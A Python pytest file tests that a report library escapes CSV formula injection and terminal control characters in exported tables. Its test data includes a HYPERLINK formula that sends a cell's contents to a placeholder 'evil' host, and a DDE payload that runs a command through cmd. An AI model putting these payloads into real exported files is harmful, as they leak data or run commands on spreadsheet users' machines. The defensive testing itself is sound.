"""Tables as CSV: what other people have named is no formula of a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from damoos.report.charts import chart
from damoos.report.charts.content import Content
from damoos.report.tables import cell, frame_to_csv, to_csv

FORMULAS = (
    '=HYPERLINK("http://evil/?"&A2,"x")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-1+1", "\tx", "\rx", "\nx", "\uff1d1",
)  # fmt: skip
OTHERS = ("redis/cache", "a=b", "-1.5", "+3e-9", "-inf", "", "'quoted", "a; b=c", "two\n\nlines", "a;b-c")


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_compute_has_an_apostrophe(text: str) -> None:
    row = {"workload": text, text: 1.5}
    for written in (to_csv([row]), frame_to_csv(pd.DataFrame([row]))):
        shown = "'" + text.replace("\r", "\n")
        assert parsed(written) == [["workload", shown], [shown, "1.5"]]


@pytest.mark.parametrize("text", ["\x0bx", "\x00x", "\x85x", "\u2028x", "\x1b[31mx"])
def test_what_steers_a_terminal_is_a_question_mark(text: str) -> None:
    for written in (to_csv([{"workload": text}]), frame_to_csv(pd.DataFrame([{"workload": text}]))):
        assert parsed(written) == [["workload"], [f"?{text[1:]}"]]


def test_a_carriage_return_begins_no_row() -> None:
    for written in (to_csv([{"a": "x\r1"}]), frame_to_csv(pd.DataFrame([{"a": "x\r1"}]))):
        assert written == 'a\n"x\n1"\n'


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d"])
@pytest.mark.parametrize("before", ["a;", "a\t", "a\n", "a\r", "\n", ";", ";\x00", "a\u2028", "a\x0b", 'a";'])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_begins_with_a_formula_whatever_separates_them(sign: str, before: str, separator: str) -> None:
    row = {"workload": "x", "text": f"{before}{sign}cmd|' /C calc'!A0", f"{before}{sign}1": 1}
    for written in (to_csv([row]), frame_to_csv(pd.DataFrame([row]))):
        lines = [part for line in csv.reader(io.StringIO(written), delimiter=separator) for part in line]
        cells = [part for cell in lines for part in cell.splitlines()]
        assert not [cell for cell in cells if cell.lstrip("\x00").startswith(sign)]


@pytest.mark.parametrize("text", OTHERS)
def test_other_texts_and_numbers_stay(text: str) -> None:
    assert cell(text) == text
    row: dict[str, Any] = {"a": text, "b": -1.5, "c": None, "d": True}
    assert parsed(to_csv([row])) == [["a", "b", "c", "d"], [text, "-1.5", "", "True"]]


def test_a_table_is_the_same_as_pandas_writes_it() -> None:
    table = pd.DataFrame({"a": ["x", None], "b": [1.5, float("nan")], "c": [-1, 2], "d": [True, False]})
    assert frame_to_csv(table) == table.to_csv(index=False)


def test_a_chart_as_csv_has_no_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Content, "table", property(lambda self: pd.DataFrame({"workload": ["=1+1"], "x": [2]})))
    path = chart.save(Content("", ()), tmp_path / "a.csv")
    assert path.read_text() == "workload,x\n'=1+1,2\n"
